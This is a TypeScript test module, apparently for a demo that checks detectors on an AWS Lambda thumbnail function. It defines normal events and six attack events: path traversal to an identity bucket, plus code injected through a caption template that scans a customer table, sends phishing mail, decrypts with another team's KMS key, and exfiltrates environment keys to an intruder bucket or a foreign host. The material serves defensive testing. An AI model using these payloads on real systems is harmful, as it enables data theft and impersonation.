import {
  CUSTOMER_TABLE,
  ELSEWHERE,
  IDENTITY_BUCKET,
  INTRUDER,
  INTRUDER_BUCKET,
  PAYROLL_KEY,
  PICTURES,
  type World,
} from './world.ts';

/** The function's daily work: thumbnails of different pictures, and now and then the question whether one is there. */
export function normalEvents(count: number, from = 0): object[] {
  const [name, width, height] = ['name', 'width', 'height'].map((field) => `\${image.${field}}`);
  const captions = [`${name}`, `${name}, ${width} pixels wide`, `${width} by ${height}`];
  return Array.from({ length: count }, (_, i) => {
    const picture = PICTURES[(from + i * 7) % PICTURES.length]!;
    if (i % 4 === 3) return { status: picture };
    return { source: picture, width: 32 + (i % 3) * 16, caption: captions[i % captions.length] };
  });
}

/** One thing that an intruder makes the function do, by nothing but what stands in the event. */
export interface Attack {
  readonly id: string;
  /** What it is, in a few words. */
  readonly title: string;
  readonly event: object;
  /** The part of the event that does it, short enough to be shown. */
  readonly line: string;
  /** Which counter of the local endpoints tells whether it has left the function. */
  readonly arrives: string;
  /** The detector that must find it. */
  readonly detector: string;
  /** What the sensor must show as refused; null for a connection, which has no AWS operation. */
  readonly action: string | null;
  /** What the intruder got, from the function's response and from the local endpoints. */
  loot(response: unknown): string;
}

/** What the caption's code hands out: its result, or the error that the SDK threw. */
export interface Outcome {
  readonly result?: string;
  readonly error?: string;
  readonly attempts?: number;
}

/** The intruder's code as a caption: `${…}` is run by the function. Everything is on one line, as it would be in a request. */
function injected(code: string): string {
  const caught = '(e) => ({ error: e.cause?.code ?? e.name, attempts: e.$metadata?.attempts })';
  return `\${await (async () => { ${code} })().then((result) => ({ result }), ${caught}).then(JSON.stringify)}`;
}

export function attacks(world: World): Attack[] {
  const byCode = (code: string): object => ({ source: PICTURES[0], width: 32, caption: injected(code) });
  const own = `{ accessKeyId: '${INTRUDER.accessKeyId}', secretAccessKey: '${INTRUDER.secretAccessKey}' }`;
  const text = (response: unknown) => outcomeOf(response).result ?? '';
  return [
    {
      id: 'other-bucket',
      title: 'Read another bucket by path traversal',
      event: { source: `../${IDENTITY_BUCKET}/passports/1043.bmp`, width: 32, caption: '' },
      line: `"source": "../${IDENTITY_BUCKET}/passports/1043.bmp"`,
      arrives: `s3:GetObject ${IDENTITY_BUCKET}`,
      detector: 'resource',
      action: 's3:GetObject',
      loot: (response) => `a passport scan, now public as ${(response as { thumbnail?: string }).thumbnail}`,
    },
    {
      id: 'scan-table',
      title: 'Scan the customer table',
      event: byCode(
        `const { DynamoDBClient, ScanCommand } = await import('@aws-sdk/client-dynamodb'); ` +
          `const { Count } = await new DynamoDBClient({}).send(new ScanCommand({ TableName: '${CUSTOMER_TABLE}' })); return Count + ' customers';`,
      ),
      line: `new ScanCommand({ TableName: '${CUSTOMER_TABLE}' })`,
      arrives: 'dynamodb:Scan',
      detector: 'action',
      action: 'dynamodb:Scan',
      loot: text,
    },
    {
      id: 'send-mail',
      title: 'Send mail in the company’s name',
      event: byCode(
        `const { SESv2Client, SendEmailCommand } = await import('@aws-sdk/client-sesv2'); ` +
          `const Content = { Simple: { Subject: { Data: 'Your invoice' }, Body: { Text: { Data: 'Please pay here' } } } }; ` +
          `await new SESv2Client({}).send(new SendEmailCommand({ FromEmailAddress: 'billing@company.example', ` +
          `Destination: { ToAddresses: ['customer1@example.com'] }, Content })); return 'a mail to customer1@example.com';`,
      ),
      line: `new SendEmailCommand({ FromEmailAddress: 'billing@company.example', … })`,
      arrives: 'ses:SendEmail',
      detector: 'action',
      action: 'ses:SendEmail',
      loot: text,
    },
    {
      id: 'foreign-key',
      title: 'Decrypt with a key of another team',
      event: byCode(
        `const { KMSClient, DecryptCommand } = await import('@aws-sdk/client-kms'); ` +
          `const { Plaintext } = await new KMSClient({}).send(new DecryptCommand({ KeyId: '${PAYROLL_KEY}', ` +
          `CiphertextBlob: Buffer.from('${world.payrollSecret}', 'base64') })); return '“' + Buffer.from(Plaintext) + '”';`,
      ),
      line: `new DecryptCommand({ KeyId: '…:key/${PAYROLL_KEY.slice(-12)}', … })`,
      arrives: 'kms:Decrypt',
      detector: 'resource',
      action: 'kms:Decrypt',
      loot: text,
    },
    {
      id: 'own-credentials',
      title: 'Upload with the intruder’s own credentials',
      event: byCode(
        `const { S3Client, PutObjectCommand } = await import('@aws-sdk/client-s3'); ` +
          `await new S3Client({ credentials: ${own} }).send(new PutObjectCommand({ Bucket: '${INTRUDER_BUCKET}', ` +
          `Key: 'loot.json', Body: JSON.stringify(Object.keys(process.env)) })); return 'loot.json in a bucket of the intruder';`,
      ),
      line: `new S3Client({ credentials: { accessKeyId: '${INTRUDER.accessKeyId}', … } })`,
      arrives: `s3:PutObject ${INTRUDER_BUCKET}`,
      detector: 'credential',
      action: 's3:PutObject',
      loot: text,
    },
    {
      id: 'unknown-host',
      title: 'Send to a host that is not AWS',
      event: byCode(
        `const { status } = await fetch('https://${ELSEWHERE}/', { method: 'POST', body: 'loot' }); return 'HTTP ' + status + ' from ${ELSEWHERE}';`,
      ),
      line: `fetch('https://${ELSEWHERE}/', { method: 'POST', … })`,
      arrives: 'egress:POST',
      detector: 'egress',
      action: null,
      loot: text,
    },
  ];
}

/** What became of the attacked call: told by the caption that the function answered with, or by the function's own error. */
export function outcomeOf(response: unknown): Outcome {
  const { caption, error, attempts } = response as { caption?: string; error?: string; attempts?: number | null };
  if (error !== undefined) return { error, ...(attempts == null ? {} : { attempts }) };
  try {
    return JSON.parse(caption ?? '') as Outcome;
  } catch {
    return { result: '' };
  }
}
